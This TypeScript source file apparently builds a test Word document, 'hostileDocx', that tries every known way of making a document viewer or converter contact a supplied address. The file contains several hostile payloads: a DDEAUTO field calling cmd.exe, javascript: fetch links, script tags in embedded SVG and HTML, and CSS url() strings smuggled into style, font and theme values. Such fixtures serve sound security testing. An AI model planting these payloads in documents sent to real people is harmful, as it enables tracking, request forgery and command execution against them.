import {
  docxWith,
  field,
  inParagraph,
  listed,
  numbering,
  paragraph,
  pictureOf,
  relationship,
  relationshipsPart,
} from "./build-docx.ts";

/**
 * Creates a Word document that requests `address` in every way that documents know, and in some that only the programs
 * know that show them: each way with a name of its own at the end of the address.
 */
export function hostileDocx(address: string): Promise<Buffer> {
  const outside = (id: string, type: string) =>
    relationship(id, type, `${address}/${type}`, "External");
  const script = `<script>fetch("${address}/script")</script>`;
  const styled = (way: string) => `background:url(${address}/${way})`;

  const body = [
    paragraph("A harmless essay"),
    inParagraph(pictureOf("rId20").replace("r:embed", "r:link")),
    inParagraph(pictureOf("rId20"), pictureOf("rId21")),
    ...[
      `INCLUDEPICTURE "${address}/includepicture"`,
      `INCLUDETEXT "${address}/includetext"`,
      `DDEAUTO c:\\windows\\system32\\cmd.exe "${address}/dde"`,
    ].map((instruction) => inParagraph(field(instruction, "field"))),
    `<w:p><w:hyperlink r:id="rId22"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>`,
    `<w:p><w:r><w:pict><v:rect style="width:9pt;height:9pt;${styled("vml-style")}"><v:imagedata r:id="rId20" r:href="${address}/vml-href"/></v:rect></w:pict></w:r></w:p>`,
    listed("listed"),
    `<w:p><w:r><w:rPr><w:rFonts w:ascii="url(${address}/font-name)"/></w:rPr><w:t>&lt;img src="${address}/text"&gt;</w:t></w:r></w:p>`,
    `<w:subDoc r:id="rId23"/>`,
    `<w:altChunk r:id="rId24"/>`,
  ].join("");

  return docxWith({
    body,
    relationships: [
      outside("rId20", "image"),
      relationship("rId21", "image", "media/drawing.svg"),
      relationship(
        "rId22",
        "hyperlink",
        `javascript:fetch('${address}/link')`,
        "External",
      ),
      outside("rId23", "subDocument"),
      relationship("rId24", "chunk", "chunk.html"),
      outside("rId25", "font"),
      relationship("rId26", "theme", "theme/theme1.xml"),
    ],
    parts: {
      numbering: numbering(["bullet", `&quot;;${styled("bullet")};x:&quot;`]),
      styles: `<w:style w:type="paragraph" w:default="1" w:styleId="a{}body{${styled("style")}}"><w:rPr><w:b/></w:rPr></w:style>`,
      settings: `<w:attachedTemplate r:id="rId1"/>`,
    },
    files: {
      "word/media/drawing.svg": `<svg xmlns="http://www.w3.org/2000/svg">${script}<image href="${address}/svg"/></svg>`,
      "word/chunk.html": `<html><body>${script}<img src="${address}/chunk"/></body></html>`,
      "word/theme/theme1.xml": `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:fontScheme><a:minorFont><a:latin typeface="x;${styled("theme")}"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>`,
      "word/_rels/settings.xml.rels": relationshipsPart(
        outside("rId1", "attachedTemplate"),
        outside("rId2", "frame"),
      ),
      "word/webextensions/webextension1.xml": `<we:webextension xmlns:we="x"><we:reference store="${address}/webextension"/></we:webextension>`,
    },
  });
}
